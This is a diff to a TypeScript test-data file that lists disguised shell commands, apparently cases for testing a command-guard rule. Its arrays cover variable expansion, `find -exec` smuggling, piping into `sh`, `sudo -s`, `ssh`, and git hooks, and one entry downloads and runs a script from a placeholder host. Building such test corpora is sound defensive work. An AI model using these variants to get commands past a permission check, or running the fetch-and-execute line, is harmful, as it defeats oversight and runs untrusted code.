@@ -1,7 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are commands of a shell
-/** Ways to run `danger go` that do not say so, or say it somewhere else. */
+/** Ways to run `danger go` without naming it plainly at the start. */
 export const hidden: readonly string[] = [
-  // Words that become several, with options that run something among them
+  // Words that expand to several, with options that run one of them
   ...[
     "x='. -exec danger go ;'; find $x",
     "x='. -exec danger go ;'; y=$x; find $y",
@@ -75,7 +75,7 @@ export const hidden: readonly string[] = [
     "x=\"$(printf '%s' '. -exec danger go ;')\"; find $x",
     "x=`echo . -exec danger go ';'`; find $x",
   ],
-  // Words that are put together
+  // Words that are assembled
   ...[
     "x=go; danger $x",
     'x=go; danger "$x"',
@@ -189,7 +189,7 @@ export const hidden: readonly string[] = [
     "read x <<< 'a[$(danger go)]'; [[ $x -eq 1 ]]",
   ],
   ...["cat f | sudo -s", "cat f | ssh h", "git daemon --access-hook='danger go'"],
-  // Shells and interpreters that read or compute
+  // Shells and interpreters that read or compute code
   ...[
     "echo danger go | sh",
     "echo 'danger go' | bash",
@@ -574,7 +574,7 @@ export const hidden: readonly string[] = [
   ],
 ];
 
-/** Ways to run `git push` that do not say so at the beginning. */
+/** Ways to run `git push` without saying so at the start. */
 export const pushes: readonly string[] = [
   ...[
     "git --exec-path=. x",
@@ -650,7 +650,7 @@ export const pushes: readonly string[] = [
   ],
 ];
 
-/** Ways to have `git push` read from a standard input, or from a file that the same command writes. */
+/** Ways to run `git push` from standard input, or from a file that the same command writes. */
 export const fed: readonly string[] = [
   "env -S 'git\\_push\\_../rem\\_HEAD:x'",
   "env -iS 'git\\_push'",
@@ -743,7 +743,7 @@ export const fed: readonly string[] = [
   "curl -O http://x/s.sh; sh s.sh",
 ];
 
-/** Commands that other rules are about, in other words. */
+/** Variants of commands that other rules are about. */
 export const otherwise: readonly [rule: string, commands: readonly string[]][] = [
   [
     "vimdiff *",
